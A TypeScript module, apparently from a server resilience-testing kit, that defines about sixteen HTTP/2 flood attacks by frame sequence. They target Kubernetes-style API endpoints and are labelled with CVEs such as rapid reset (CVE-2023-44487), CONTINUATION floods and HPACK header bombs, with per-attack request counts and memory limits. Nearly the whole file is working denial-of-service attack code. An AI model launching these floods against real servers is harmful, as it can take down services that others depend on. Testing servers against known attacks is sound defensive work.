import type { Attack } from '../../kit/attack.js';
import {
  addedField,
  flags,
  frame,
  frameTypes,
  headerBlock,
  headersFrame,
  indexed,
  requestHeaders,
  settingIds,
  settings,
  uint32,
} from '../../kit/http2-frames.js';
import { floodAttack } from './flood.js';

const maps = '/api/v1/namespaces/default/configmaps';
/** Client streams have odd numbers. */
const streamOf = (index: number) => 2 * index + 1;
const cancel = uint32(8);
const openHeaders = flags.endHeaders;

/** Floods of frames that are legal, or nearly so, one by one. */
export const http2Floods = {
  'http2-rapid-reset': floodAttack({
    about: 'a client sends requests and cancels each at once (CVE-2023-44487)',
    frames: (index, { token }) =>
      Buffer.concat([
        headersFrame(streamOf(index), headerBlock(requestHeaders(maps, token))),
        frame({ type: frameTypes.resetStream, stream: streamOf(index), payload: cancel }),
      ]),
    count: { short: 20_000, full: 200_000 },
    reads: true,
    connections: 2,
    memoryMaxMb: 250,
  }),
  'http2-made-reset': floodAttack({
    about: 'a client sends requests and makes the server reset each by an invalid window update (CVE-2025-8671)',
    frames: (index, { token }) =>
      Buffer.concat([
        headersFrame(streamOf(index), headerBlock(requestHeaders(maps, token))),
        frame({ type: frameTypes.windowUpdate, stream: streamOf(index), payload: uint32(0) }),
      ]),
    count: { short: 10_000, full: 100_000 },
    reads: true,
    connections: 2,
    memoryMaxMb: 250,
  }),
  'http2-reset-flood': floodAttack({
    about: 'a client sends invalid requests, and does not read the resets (CVE-2019-9514)',
    frames: (index) => headersFrame(streamOf(index), headerBlock([[':method', 'GET']])),
    count: { short: 50_000, full: 500_000 },
    reads: false,
    memoryMaxMb: 150,
  }),
  'http2-continuation': floodAttack({
    about: 'a client sends CONTINUATION frames without end (CVE-2023-45288)',
    frames: (index, { token }) =>
      index === 0
        ? headersFrame(1, headerBlock(requestHeaders(maps, token)), flags.endStream)
        : frame({
            type: frameTypes.continuation,
            stream: 1,
            payload: headerBlock([[`x-${index}`, 'v'.repeat(8_000)]]),
          }),
    count: { short: 5_000, full: 50_000 },
    reads: true,
    memoryMaxMb: 150,
  }),
  'http2-empty-continuation': floodAttack({
    about: 'a client sends empty CONTINUATION frames without end',
    frames: (index, { token }) =>
      index === 0
        ? headersFrame(1, headerBlock(requestHeaders(maps, token)), flags.endStream)
        : frame({ type: frameTypes.continuation, stream: 1 }),
    count: { short: 50_000, full: 1_000_000 },
    reads: true,
    memoryMaxMb: 150,
  }),
  'http2-settings': floodAttack({
    about: 'a client sends SETTINGS, and does not read the acknowledgements (CVE-2019-9515)',
    frames: (index) => settings([[settingIds.initialWindowSize, 65_535 + (index % 2)]]),
    count: { short: 50_000, full: 1_000_000 },
    reads: false,
    memoryMaxMb: 150,
  }),
  'http2-many-settings': floodAttack({
    about: 'a client sends SETTINGS with thousands of entries each (CVE-2020-11080)',
    frames: () => settings(Array.from({ length: 2_000 }, () => [settingIds.headerTableSize, 4_096] as const)),
    count: { short: 1_000, full: 20_000 },
    reads: true,
    memoryMaxMb: 150,
  }),
  'http2-pings': floodAttack({
    about: 'a client sends PING, and does not read the acknowledgements (CVE-2019-9512)',
    frames: () => frame({ type: frameTypes.ping, payload: Buffer.alloc(8) }),
    count: { short: 100_000, full: 2_000_000 },
    reads: false,
    memoryMaxMb: 150,
  }),
  'http2-empty-data': floodAttack({
    about: 'a client sends empty DATA frames without end (CVE-2019-9518)',
    frames: (index, { token }) =>
      index === 0
        ? headersFrame(1, headerBlock([...requestHeaders(maps, token), ['content-type', 'x/y']]), openHeaders)
        : frame({ type: frameTypes.data, stream: 1 }),
    count: { short: 100_000, full: 2_000_000 },
    reads: true,
    memoryMaxMb: 150,
  }),
  'http2-priorities': floodAttack({
    about: 'a client changes the priorities of idle streams without end (CVE-2019-9513)',
    frames: (index) =>
      frame({
        type: frameTypes.priority,
        stream: streamOf(index % 5_000),
        payload: Buffer.concat([uint32(streamOf((index + 1) % 5_000)), Buffer.from([index % 256])]),
      }),
    count: { short: 100_000, full: 2_000_000 },
    reads: true,
    memoryMaxMb: 150,
  }),
  'http2-empty-headers': floodAttack({
    about: 'a client sends headers with empty names and values (CVE-2019-9516)',
    frames: (index, { token }) =>
      headersFrame(
        streamOf(index),
        Buffer.concat([
          headerBlock(requestHeaders(maps, token)),
          headerBlock(Array.from({ length: 500 }, () => ['', ''] as const)),
        ]),
      ),
    count: { short: 2_000, full: 20_000 },
    reads: true,
    memoryMaxMb: 250,
  }),
  'http2-header-names': floodAttack({
    about: 'a client sends headers with new names in each request (CVE-2021-44716)',
    frames: (index, { token }) =>
      headersFrame(
        streamOf(index),
        headerBlock([
          ...requestHeaders('/version', token),
          ...Array.from({ length: 50 }, (_, name) => [`x-${index}-${name}-${'n'.repeat(100)}`, 'v'] as const),
        ]),
      ),
    count: { short: 2_000, full: 20_000 },
    reads: true,
    memoryMaxMb: 250,
  }),
  'http2-header-bomb': floodAttack({
    about: 'a client adds a large header to the HPACK table, and refers to it thousands of times in each request',
    frames: (index, { token }) => {
      const request = headerBlock(requestHeaders(maps, token));
      const references = Buffer.concat(Array.from({ length: 10_000 }, () => indexed(62)));
      const bomb = index === 0 ? addedField('x', 'v'.repeat(3_900)) : Buffer.alloc(0);
      return headersFrame(streamOf(index), Buffer.concat([request, bomb, references]));
    },
    count: { short: 1_000, full: 10_000 },
    reads: true,
    memoryMaxMb: 250,
  }),
  'http2-window-dribble': floodAttack({
    about: 'a client opens the window of large responses by one byte at a time (CVE-2019-9511)',
    first: () => settings([[settingIds.initialWindowSize, 0]]),
    frames: (index, { token }) =>
      index < 100
        ? headersFrame(streamOf(index), headerBlock(requestHeaders('/openapi/v2', token)))
        : frame({ type: frameTypes.windowUpdate, stream: streamOf(index % 100), payload: uint32(1) }),
    count: { short: 20_000, full: 500_000 },
    reads: true,
    memoryMaxMb: 300,
  }),
  'http2-zero-window': floodAttack({
    about: 'clients request large responses on all their streams, and allow the server to send nothing (CVE-2019-9517)',
    first: () => settings([[settingIds.initialWindowSize, 0]]),
    frames: (index, { token }) => headersFrame(streamOf(index), headerBlock(requestHeaders('/openapi/v2', token))),
    count: { short: 240, full: 240 },
    reads: true,
    connections: 8,
    memoryMaxMb: 300,
  }),
  'http2-odd-frames': floodAttack({
    about: 'a client sends unknown frames, GOAWAY and connection window updates in turn',
    frames: (index) =>
      [
        frame({ type: 0x42, payload: Buffer.alloc(64) }),
        frame({ type: frameTypes.windowUpdate, payload: uint32(1) }),
        frame({ type: frameTypes.goAway, payload: uint32(0, 0) }),
      ][index % 3] ?? Buffer.alloc(0),
    count: { short: 50_000, full: 500_000 },
    reads: true,
    memoryMaxMb: 150,
  }),
} as const satisfies Readonly<Record<string, Attack>>;
